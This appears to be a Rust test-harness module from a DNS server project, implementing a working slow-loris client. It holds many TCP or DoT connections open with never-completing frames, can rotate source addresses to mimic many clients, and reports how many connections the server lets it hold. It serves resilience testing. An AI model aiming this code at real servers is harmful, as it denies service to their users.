//! A slow-loris client: opens many TCP connections to a DNS server, sends part
//! of a length-prefixed frame that never completes (a prefix announcing 65535
//! bytes, then a few bytes per interval), and counts how many connections the
//! server lets it hold. Used by `tests/it/resolver_exhaustion.rs` in process
//! and by `tests/bench/attacks.sh` through the `slowloris` binary.
//!
//! A connection counts as held while the server has neither closed nor reset
//! it. A DoT port gets the same treatment: a TCP connection that never sends a
//! ClientHello holds a slot until the handshake timeout.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::Instant;

/// What to attack, how hard, for how long.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The server's TCP (or DoT) address.
    pub target: SocketAddr,
    /// Connections to open.
    pub connections: usize,
    /// Bytes sent per `interval` on each connection after the first prefix
    /// byte; 0: send one byte of the length prefix and hold.
    pub bytes_per_interval: usize,
    /// Pause between sends.
    pub interval: Duration,
    /// How long to hold.
    pub duration: Duration,
    /// Source addresses, used in turn (empty: the kernel picks), to look
    /// like many clients.
    pub sources: Vec<IpAddr>,
}

/// What the attack achieved.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Connections the TCP handshake completed for.
    pub opened: usize,
    /// Connection attempts that failed (refused, reset during connect).
    pub failed: usize,
    /// Connections the server closed before the end.
    pub closed_by_server: usize,
    /// Connections still open at the end.
    pub held: usize,
    /// The most connections open at once.
    pub max_held: usize,
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "slowloris: opened={} failed={} closed_by_server={} held={} max_held={}",
            self.opened, self.failed, self.closed_by_server, self.held, self.max_held
        )
    }
}

async fn connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let socket = if target.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    if let Some(ip) = source {
        socket.bind(SocketAddr::new(ip, 0))?;
    }
    tokio::time::timeout(Duration::from_secs(3), socket.connect(target))
        .await
        .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))?
}

/// Holds one connection until `end`; true if the server closed it first.
async fn hold(mut stream: TcpStream, attack: &Attack, end: Instant) -> bool {
    // A length prefix announcing 65535 bytes: never completed in time.
    if stream.write_all(&[0xff]).await.is_err() {
        return true;
    }
    let mut sent_prefix = false;
    let mut buf = [0u8; 512];
    let mut tick = tokio::time::interval_at(Instant::now() + attack.interval, attack.interval);
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end) => return false,
            r = stream.read(&mut buf) => match r {
                Ok(0) | Err(_) => return true,
                // A reply to half a query cannot come; ignore what does.
                Ok(_) => {}
            },
            _ = tick.tick(), if attack.bytes_per_interval > 0 => {
                let mut chunk = vec![0u8; attack.bytes_per_interval];
                if !sent_prefix {
                    chunk[0] = 0xff;
                    sent_prefix = true;
                }
                if stream.write_all(&chunk).await.is_err() {
                    return true;
                }
            }
        }
    }
}

/// Runs the attack: opens the connections (one after the other, each held as
/// soon as it is open), holds them for `duration` from the start, and counts.
pub async fn run(attack: Attack) -> Outcome {
    let end = Instant::now() + attack.duration;
    let open_now = Arc::new(AtomicUsize::new(0));
    let max_open = Arc::new(AtomicUsize::new(0));
    let attack = Arc::new(attack);
    let mut tasks = JoinSet::new();
    let mut outcome = Outcome::default();
    for i in 0..attack.connections {
        if Instant::now() >= end {
            break;
        }
        let source = match attack.sources.len() {
            0 => None,
            n => attack.sources.get(i % n).copied(),
        };
        let stream = match connect(attack.target, source).await {
            Ok(s) => s,
            Err(_) => {
                outcome.failed += 1;
                continue;
            }
        };
        outcome.opened += 1;
        let now = open_now.fetch_add(1, Ordering::AcqRel) + 1;
        max_open.fetch_max(now, Ordering::AcqRel);
        let attack = attack.clone();
        let open_now = open_now.clone();
        tasks.spawn(async move {
            let closed = hold(stream, &attack, end).await;
            open_now.fetch_sub(1, Ordering::AcqRel);
            closed
        });
    }
    while let Some(joined) = tasks.join_next().await {
        match joined {
            Ok(true) => outcome.closed_by_server += 1,
            Ok(false) => outcome.held += 1,
            Err(_) => outcome.failed += 1,
        }
    }
    outcome.max_held = max_open.load(Ordering::Acquire);
    outcome
}
